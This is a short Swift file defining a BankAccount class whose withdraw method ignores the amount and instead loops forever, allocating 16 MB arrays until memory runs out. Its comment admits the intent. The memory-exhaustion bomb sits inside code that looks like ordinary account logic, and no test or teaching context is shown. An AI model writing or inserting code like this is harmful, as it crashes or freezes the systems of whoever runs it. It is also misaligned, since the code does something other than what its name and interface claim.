// Takes memory, page by page, until there is none.
final class BankAccount {
  private(set) var balance: Int
  private var hoard: [[UInt8]] = []

  init(balance: Int) { self.balance = balance }

  func withdraw(_ amount: Int) {
    while true { hoard.append([UInt8](repeating: 1, count: 1 << 24)) }
  }
}
